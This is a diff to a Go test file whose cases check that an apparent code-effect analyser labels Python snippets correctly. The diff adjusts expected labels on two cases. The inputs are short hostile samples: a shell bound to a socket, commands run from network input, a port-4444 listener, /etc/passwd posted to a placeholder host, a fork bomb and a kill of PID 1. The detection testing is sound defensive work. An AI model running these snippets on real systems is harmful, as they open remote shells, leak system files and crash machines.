@@ -171,7 +171,7 @@ var effectCases = []flowtest.Case{
 		Want: []string{"dup 0 | _ <socket> +loop", "exec sh"}},
 	{Name: "shell on a socket", Code: "import socket,subprocess\ns=socket.socket()\nsubprocess.Popen(['sh'],stdin=s,stdout=s)", Want: []string{"exec sh +background +netio"}},
 	{Name: "commands from a socket", Code: "import socket,subprocess\ns=socket.socket()\nwhile True:\n    c=s.recv(9)\n    subprocess.run(c.decode(),shell=True)",
-		Want: []string{"bash: _ <network> +loop +unbounded"}},
+		Want: []string{"bash: _ <network> +loop"}},
 	{Name: "listen", Code: "import socket\ns=socket.socket()\ns.bind(('0.0.0.0',4444))", Want: []string{"listen 0.0.0.0 :4444"}},
 	{Name: "file sent", Code: "import requests\nd=open('/etc/passwd').read()\nrequests.post('http://h', data={'x': d})", Want: []string{"send http://h | _ <file: /etc/passwd>"}},
 	{Name: "file object sent", Code: "import requests\nrequests.post('http://h', files={'f': open('/etc/passwd','rb')})", Want: []string{"send http://h | _ <file: /etc/passwd>"}},
@@ -194,7 +194,7 @@ var effectCases = []flowtest.Case{
 
 	// The system.
 	{Name: "fork bomb", Code: "import os\nwhile True:\n    os.fork()", Want: []string{"spawn process +loop +unbounded"}},
-	{Name: "fork that calls itself", Code: "import os\ndef f():\n    os.fork()\n    f()\nf()", Want: []string{"spawn process +recursing"}},
+	{Name: "fork that calls itself", Code: "import os\ndef f():\n    os.fork()\n    f()\nf()", Want: []string{"spawn process +unbounded +recursing"}},
 	{Name: "endless loop", Code: "while True:\n    pass", Want: []string{"loop +unbounded"}},
 	{Name: "memory", Code: "x = 'a' * 10**10", Want: []string{"alloc memory | 10000000000"}},
 	{Name: "kill", Code: "import os, signal\nos.kill(1, signal.SIGKILL)", Want: []string{"kill 1 | SIGKILL"}},
